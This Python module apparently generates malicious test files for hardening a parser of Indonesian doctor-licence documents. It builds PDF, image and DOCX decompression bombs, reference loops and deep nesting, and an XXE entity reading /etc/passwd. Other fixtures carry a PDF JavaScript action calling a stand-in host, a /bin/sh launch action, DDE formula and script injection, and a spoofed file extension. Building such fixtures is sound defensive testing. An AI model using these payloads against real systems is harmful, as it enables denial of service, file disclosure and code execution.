"""Makers of files that attack who reads them: loops, bombs, lies and depth; each file is small."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image

PRINTED = "Surat izin ini berlaku sampai dengan tanggal 17 Agustus 2028"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def stream(data: bytes, entries: bytes = b"", *, length: int | None = None) -> bytes:
    """Return a stream object, which may lie about its length."""
    size = len(data) if length is None else length
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, size, data)


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"", *, start: int | None = None) -> bytes:
    """Return a PDF with these objects; `start` lies about where the table is."""
    body = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, content in objects.items():
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(body)
    size = max(objects) + 1
    body += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in offsets.items():
        body += b"%d 1\n%010d 00000 n \n" % (number, offset)
    body += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n" % (
        size,
        trailer.replace(b"@", b"%d" % table),
    )
    return bytes(body + b"%d\n%%%%EOF\n" % (table if start is None else start))


def page_of(content: bytes, resources: bytes = b"", trailer: bytes = b"", **more: bytes) -> bytes:
    """Return a PDF with one page: object 4 is its content, further ones are `o5`, `o6` ..."""
    objects = {1: CATALOG, 2: PAGES, 3: PAGE % resources, 4: content}
    objects.update({int(name[1:]): value for name, value in more.items()})
    return pdf(objects, trailer)


def picture_page(entries: bytes, data: bytes) -> bytes:
    """Return a PDF whose page is one picture."""
    drawn = stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    picture = stream(data, b"/Type /XObject /Subtype /Image " + entries)
    return page_of(drawn, b"/XObject << /I 5 0 R >>", o5=picture)


def deflated(size: int, what: bytes = b"\0", *, times: int = 1) -> bytes:
    """Return about `size` bytes packed, and packed again; the sum at the end is wrong."""
    packer = zlib.compressobj(9, wbits=-15)
    block = what * (1 << 20)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # stands for itself: may be repeated
    data = b"\x78\xda" + packed * -(-size // len(block)) + b"\3\0" + b"\0" * 4
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def pages_loop() -> bytes:
    kids = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>"
    return pdf({1: CATALOG, 2: kids, 3: PAGE % b"", 4: stream(b"")})


def pages_two_loop() -> bytes:
    one, other = b"<< /Type /Pages /Kids [3 0 R] /Count 4 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 4 >>"
    return pdf({1: CATALOG, 2: one, 3: other})


def pages_deep() -> bytes:
    depth = 3000
    objects = {1: CATALOG}
    for number in range(2, depth):
        objects[number] = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (
            number - 1,
            number + 1,
        )
    objects[depth] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth - 1)
    return pdf(objects)


def prev_loop() -> bytes:
    return licence(trailer=b"/Prev @")


def object_stream_loop() -> bytes:
    inside = stream(
        b"2 0 << /Type /Pages /Kids [3 0 R] /Count 1 >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R"
    )
    body = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in {1: CATALOG, 3: PAGE % b"", 4: stream(b""), 6: inside}.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = [
        (0, 0, 255),
        (1, places[1], 0),
        (2, 6, 0),
        (1, places[3], 0),
        (1, places[4], 0),
        (2, 6, 0),
        (2, 6, 0),
    ]
    packed = b"".join(struct.pack(">BIB", *row) for row in rows)
    table = len(body)
    entries = b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Prev %d" % table
    body += b"7 0 obj\n" + stream(packed, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(body)


def xref_huge() -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n" + CATALOG + b"\nendobj\n"
    entries = b"/Type /XRef /Size 2147483647 /W [8 8 8] /Index [0 2147483647] /Root 1 0 R"
    return (
        body + b"2 0 obj\n" + stream(b"\0" * 48, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
    )


def form_loop() -> bytes:
    form = stream(
        b"/F Do /F Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >>",
    )
    return page_of(stream(b"/F Do"), b"/XObject << /F 5 0 R >>", o5=form)


def content_bomb() -> bytes:
    return page_of(stream(deflated(900_000_000, b"0 0 9 9 re f "), b"/Filter /FlateDecode"))


def content_bomb_nested() -> bytes:
    data = deflated(400_000_000, b"q ", times=3)
    return page_of(stream(data, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"))


def picture_bomb() -> bytes:
    entries = b"/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode"
    return picture_page(entries, deflated(60_000_000))


def picture_overflow() -> bytes:
    entries = b"/Width 2147483647 /Height 2147483647 /BitsPerComponent 16 /ColorSpace /DeviceCMYK"
    return picture_page(entries, b"\0" * 64)


def jbig2_bomb() -> bytes:
    page = struct.pack(">IBBI", 0, 48, 1, 19) + struct.pack(">IIIIBH", 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0)
    entries = b"/Width 9000 /Height 9000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode"
    return picture_page(entries, page)


def lzw_bomb() -> bytes:
    entries = b"/Width 3000 /Height 3000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /LZWDecode"
    return picture_page(entries, b"\x80\x0b\x60\x50" * 200_000)


def predictor_bomb() -> bytes:
    parms = b"/DecodeParms << /Predictor 15 /Colors 32 /BitsPerComponent 16 /Columns 1073741824 >>"
    return page_of(stream(zlib.compress(b"\2" * 9999), b"/Filter /FlateDecode " + parms))


def arrays_deep() -> bytes:
    return page_of(stream(b"[" * 200_000 + b"]" * 200_000 + b" 0 d"), b"/X " + b"[" * 50_000 + b"]" * 50_000)


def dictionaries_deep() -> bytes:
    return pdf({1: CATALOG, 2: PAGES, 3: b"<</A" * 50_000 + b" 0" + b">>" * 50_000})


def count_lies() -> bytes:
    many = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    return pdf({1: CATALOG, 2: many, 3: PAGE % b"", 4: stream(b"")})


def count_negative() -> bytes:
    many = b"<< /Type /Pages /Kids [3 0 R] /Count -7 >>"
    return pdf({1: CATALOG, 2: many, 3: PAGE % b"", 4: stream(b"")})


def count_many() -> bytes:
    kids = b"3 0 R " * 2_500
    return pdf(
        {1: CATALOG, 2: b"<< /Type /Pages /Kids [%s] /Count 2500 >>" % kids, 3: PAGE % b"", 4: stream(b"")}
    )


def licence(extra: bytes = b"", *, length: int | None = None, trailer: bytes = b"") -> bytes:
    """Return a page that can be read, with whatever else."""
    lines = (b"SURAT IZIN PRAKTIK DOKTER", b"Nomor : 503/0417/SIP-DU/2023", PRINTED.encode(), extra)
    drawn = b" ".join(b"1 0 0 1 60 %d Tm (%s) Tj" % (760 - 20 * row, line) for row, line in enumerate(lines))
    font = b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >> >>"
    return page_of(stream(b"BT /F 11 Tf " + drawn + b" ET", length=length), font, trailer)


def length_lies() -> bytes:
    return licence(length=2_000_000_000)


def box(sides: bytes) -> bytes:
    return licence().replace(b"[0 0 595 842]", b"[" + sides + b"]")


def box_huge() -> bytes:
    return box(b"0 0 1000000000 1000000000")


def box_nothing() -> bytes:
    return box(b"0 0 0 0")


def box_turned() -> bytes:
    return box(b"595 842 0 0")


def box_tiny() -> bytes:
    return box(b"0 0 .0000001 .0000001")


def box_thin() -> bytes:
    return box(b"0 0 14000 .1")


def box_of_words() -> bytes:
    return box(b"a b c d")


def with_action() -> bytes:
    action = b"/OpenAction << /S /JavaScript /JS (while(true){app.launchURL('http://192.0.2.1/')}) >>"
    launch = b"/AA << /WC << /S /Launch /F (/bin/sh) >> >>"
    return licence().replace(CATALOG, CATALOG[:-2] + action + launch + b">>")


def pattern_fine() -> bytes:
    entries = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 "
        b"/YStep 0.0001 /Resources << >>"
    )
    drawn = stream(b"/Pattern cs /P scn 0 0 595 842 re f")
    return page_of(drawn, b"/Pattern << /P 5 0 R >>", o5=stream(b"0 0 1 1 re f", entries))


def font_loop() -> bytes:
    glyph = b"500 0 0 0 500 500 d1 BT /F 12 Tf (aaaa) Tj ET"
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 500 500] /FontMatrix [.002 0 0 .002 0 0] "
        b"/FirstChar 97 /LastChar 97 /Widths [500] /Encoding << /Type /Encoding /Differences [97 /a] >> "
        b"/CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>"
    )
    return page_of(
        stream(b"BT /F 12 Tf 60 700 Td (aaaaaaaa) Tj ET"), b"/Font << /F 5 0 R >>", o5=font, o6=stream(glyph)
    )


def cut_off() -> bytes:
    return licence()[:120]


def only_a_header() -> bytes:
    return b"%PDF-1.7\n"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *chunks: bytes, pixels: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def png_bomb() -> bytes:
    return png(60_000, 60_000, pixels=deflated(40_000_000))


def png_text_bomb() -> bytes:
    return png(9, 9, chunk(b"zTXt", b"Comment\0\0" + deflated(500_000_000)), pixels=zlib.compress(b"\0" * 90))


def png_profile_bomb() -> bytes:
    return png(9, 9, chunk(b"iCCP", b"p\0\0" + deflated(500_000_000)), pixels=zlib.compress(b"\0" * 90))


def png_cut_off() -> bytes:
    return png(3_000, 3_000, pixels=deflated(1_000_000)[:400])


def ifd(entries: list[tuple[int, int, int, int]], following: int) -> bytes:
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return struct.pack("<H", len(entries)) + packed + struct.pack("<I", following)


SMALL = [
    (256, 3, 1, 1),
    (257, 3, 1, 1),
    (258, 3, 1, 8),
    (259, 3, 1, 1),
    (262, 3, 1, 1),
    (273, 4, 1, 8),
    (278, 3, 1, 1),
    (279, 4, 1, 1),
]


def tiff_loop() -> bytes:
    return b"II*\0" + struct.pack("<I", 10) + b"\0\0" + ifd(SMALL, 10)


def tiff_two_loop() -> bytes:
    size = len(ifd(SMALL, 0))
    return b"II*\0" + struct.pack("<I", 10) + b"\0\0" + ifd(SMALL, 10 + size) + ifd(SMALL, 10)


def tiff_many() -> bytes:
    size, body = len(ifd(SMALL, 0)), bytearray(b"II*\0" + struct.pack("<I", 10) + b"\0\0")
    for number in range(1, 20_001):
        body += ifd(SMALL, 10 + size * number if number < 20_000 else 0)
    return bytes(body)


def tiff_lies() -> bytes:
    entries = [
        (256, 4, 1, 9_000),
        (257, 4, 1, 9_000),
        *SMALL[2:5],
        (273, 4, 1, 4_000_000_000),
        (278, 4, 1, 9_000),
        (279, 4, 1, 4_000_000_000),
    ]
    return b"II*\0" + struct.pack("<I", 10) + b"\0\0" + ifd(entries, 0)


def tiff_many_tags() -> bytes:
    entries = [*SMALL, (306, 2, 4_294_967_295, 8)]
    return b"II*\0" + struct.pack("<I", 10) + b"\0\0" + ifd(entries, 0)


def jpeg(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (16, 16), 128).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_huge() -> bytes:
    return jpeg(65_500, 65_500)


def jpeg_short() -> bytes:
    return jpeg(11_000, 11_000)[:-30]


def heic(data: bytes = b"") -> bytes:
    brand = b"ftypheic\0\0\0\0mif1heic"
    return struct.pack(">I", len(brand) + 4) + brand + data


def heic_deep() -> bytes:
    inside = b""
    for _ in range(3_000):
        inside = struct.pack(">I", len(inside) + 12) + b"meta\0\0\0\0" + inside
    return heic(inside)


def heic_lies() -> bytes:
    return heic(struct.pack(">I", 1) + b"meta" + struct.pack(">Q", 1 << 62) + b"\0" * 40)


TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: bytes, declared: bytes = b"", **more: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr(
            "word/document.xml", b"%s<w:document %s><w:body>%s</w:body></w:document>" % (declared, WORD, body)
        )
        for name, data in more.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def paragraph(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def docx_bomb() -> bytes:
    return docx(paragraph(b"a" * 201_000_000))


def docx_other_bomb() -> bytes:
    return docx(paragraph(b"SURAT"), **{"word/media/x.bin": b"\0" * 20_000_000})


def docx_laughs() -> bytes:
    names = [
        b'<!ENTITY a0 "ha">',
        *(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)),
    ]
    return docx(paragraph(b"&a11;"), b"<!DOCTYPE x [" + b"".join(names) + b"]>")


def docx_outside() -> bytes:
    return docx(paragraph(b"SURAT IZIN &x;"), b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def docx_deep() -> bytes:
    return docx(b"<w:p>" * 100_000 + b"</w:p>" * 100_000)


def docx_tables() -> bytes:
    depth = 60
    return docx(b"<w:tbl><w:tr><w:tc>" * depth + paragraph(b"x") + b"</w:tc></w:tr></w:tbl>" * depth)


def docx_columns() -> bytes:
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>' + paragraph(b"x") + b"</w:tc>"
    return docx(b"<w:tbl><w:tblGrid/><w:tr>" + cell + b"</w:tr></w:tbl>")


def docx_wide() -> bytes:
    return docx(paragraph(b"kata " * 12_000_000))


def docx_size_lies() -> bytes:
    data = bytearray(docx(paragraph(b"a" * 100_000)))
    where = data.rindex(b"PK\1\2")
    data[where + 24 : where + 28] = struct.pack("<I", 10)
    return bytes(data)


def docx_cut_off() -> bytes:
    return docx(paragraph(b"SURAT IZIN"))[:-60]


def archive_of_pdf() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("surat.pdf", licence())
    return buffer.getvalue()


def png_deep_colour() -> bytes:
    """Within the limit of pixels; a gigabyte once it is on white."""
    size = 12_000
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 6, 0, 0, 0))
    pixels = deflated(size * (4 * size + 1))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def picture_deep_colour() -> bytes:
    """Within the limit of pixels; 430 MB of colours in a PDF."""
    size = 12_000
    entries = b"/Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode" % (
        size,
        size,
    )
    return picture_page(entries, deflated(size * size * 3))


def some_text() -> bytes:
    return b"\x1b]0;judul\x07\x1b[2J=cmd|' /C calc'!A0\r\n<script>alert(1)</script>"


def some_page() -> bytes:
    return b"<!doctype html><script>fetch('http://192.0.2.1/')</script>"


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (16, 16), 128).save(buffer, "GIF")
    return buffer.getvalue()


def nothing() -> bytes:
    return b""


def xml_with_pdf_inside() -> bytes:
    return b"<svg>" + b" " * 900 + b"%PDF-1.7" + b"\0" * 4_000


def partly() -> bytes:
    """Two pages; the box of the second is absurd."""
    kids = b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>"
    absurd = PAGE.replace(b"595 842", b"900000 900000") % b""
    font = b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    drawn = stream(b"BT /F 11 Tf 60 760 Td (SURAT IZIN PRAKTIK DOKTER Nomor 503/0417/SIP-DU/2023) Tj ET")
    return pdf({1: CATALOG, 2: kids, 3: PAGE % font, 4: drawn, 6: absurd})


ATTACK = "\x1b[31m\x9b2J=cmd|' /C calc'!A0 <script>alert(1)</script> \u202etxt.exe"


def docx_attack() -> bytes:
    text = ATTACK.replace("\x1b", "").replace("&", "&amp;").replace("<", "&lt;").encode()
    lines = ("SURAT IZIN PRAKTIK DOKTER", "Nomor : 503/0417/SIP-DU/2023", PRINTED)
    body = b"".join(paragraph(line.encode()) for line in lines)
    return docx(body + paragraph(b"Nama : dr. Wulan " + text) + paragraph(b"=1+1") + paragraph(b"@SUM(A1)"))


def pdf_attack() -> bytes:
    name = ATTACK.encode("cp1252", "replace").replace(b"(", b"\\(").replace(b")", b"\\)")
    return licence(b"Nama : dr. Wulan " + name)


def zip_many() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", b"<x/>")
        for number in range(12_000):
            archive.writestr(f"word/media/{number}", b"")
    return buffer.getvalue()
